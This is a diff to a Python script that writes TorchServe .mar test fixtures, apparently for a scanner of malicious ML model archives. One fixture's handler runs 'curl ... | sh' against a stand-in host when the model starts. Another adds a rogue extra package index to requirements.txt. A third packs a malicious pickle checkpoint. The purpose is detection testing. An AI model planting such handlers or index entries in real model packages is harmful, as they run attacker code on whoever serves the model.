@@ -1,5 +1,6 @@
 #!/usr/bin/env python3
-"""Writes the packaging-format fixtures: NeMo archives (fixtures/nemo/), and more as they come.
+"""Writes the packaging-format fixtures: NeMo archives (fixtures/nemo/), TorchServe .mar
+(fixtures/torchserve/), and more as they come.
 
 Needs Debian's python3-torch for the PyTorch checkpoints inside the archives. Every output is
 deterministic (fixed times, no user names), so a regeneration that changes bytes is a real change.
@@ -11,6 +12,7 @@ import io
 import json
 import pickle
 import tarfile
+import zipfile
 from pathlib import Path
 
 import torch
@@ -117,5 +119,72 @@ def nemo():
     f.finish()
 
 
+def zip_bytes(members):
+    buf = io.BytesIO()
+    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
+        for name, data in members:
+            info = zipfile.ZipInfo(name, date_time=(2026, 1, 1, 0, 0, 0))
+            info.compress_type = zipfile.ZIP_DEFLATED
+            info.external_attr = 0o644 << 16
+            z.writestr(info, data)
+    return buf.getvalue()
+
+
+def manifest(**model):
+    m = {"modelName": "resnet", "modelVersion": "1.0", **model}
+    return json.dumps({"createdOn": "01/01/2026 00:00:00", "runtime": "python", "model": m,
+                       "archiverVersion": "0.12.0"}, indent=2).encode()
+
+
+SAFE_HANDLER = b"""from ts.torch_handler.image_classifier import ImageClassifier
+
+
+class Handler(ImageClassifier):
+    topk = 3
+
+    def postprocess(self, data):
+        return [{"labels": row.argmax().item()} for row in data]
+"""
+
+EVIL_HANDLER = b"""import os
+from ts.torch_handler.base_handler import BaseHandler
+
+
+class Handler(BaseHandler):
+    def initialize(self, context):
+        os.system("curl -s https://example.invalid/x | sh")
+        super().initialize(context)
+"""
+
+
+def torchserve():
+    f = Folder("torchserve")
+    weights = checkpoint()
+    f.write("benign-builtin-handler.mar", zip_bytes([
+        ("MAR-INF/MANIFEST.json", manifest(handler="image_classifier", serializedFile="model.pt")),
+        ("model.pt", weights)]))
+    f.write("malicious-handler-os-system.mar", zip_bytes([
+        ("MAR-INF/MANIFEST.json", manifest(handler="handler.py", serializedFile="model.pt")),
+        ("model.pt", weights), ("handler.py", EVIL_HANDLER)]), ["MAR-001", "PY-002"])
+    f.write("malicious-requirements-extra-index.mar", zip_bytes([
+        ("MAR-INF/MANIFEST.json", manifest(handler="custom_handler.py:handle",
+                                           serializedFile="model.pt",
+                                           requirementsFile="requirements.txt")),
+        ("model.pt", weights), ("custom_handler.py", SAFE_HANDLER),
+        ("requirements.txt", b"numpy==1.26.4\n--extra-index-url https://pypi.example.invalid/simple\n"
+                             b"resnet-utils==0.1\n")]), ["MAR-001", "MAR-002", "MAR-003"])
+    f.write("malicious-pickle-model.mar", zip_bytes([
+        ("MAR-INF/MANIFEST.json", manifest(handler="image_classifier", serializedFile="model.pt")),
+        ("model.pt", evil_checkpoint())]), ["PKL-001"])
+    f.write("malformed-manifest.mar", zip_bytes([
+        ("MAR-INF/MANIFEST.json", b'{"model": {"handler": "image_classifier", '),
+        ("model.pt", weights)]), ["MAR-004"])
+    f.write("malformed-missing-model.mar", zip_bytes([
+        ("MAR-INF/MANIFEST.json", manifest(handler="image_classifier", serializedFile="model.pt"))]),
+        ["MAR-004"])
+    f.finish()
+
+
 if __name__ == "__main__":
     nemo()
+    torchserve()
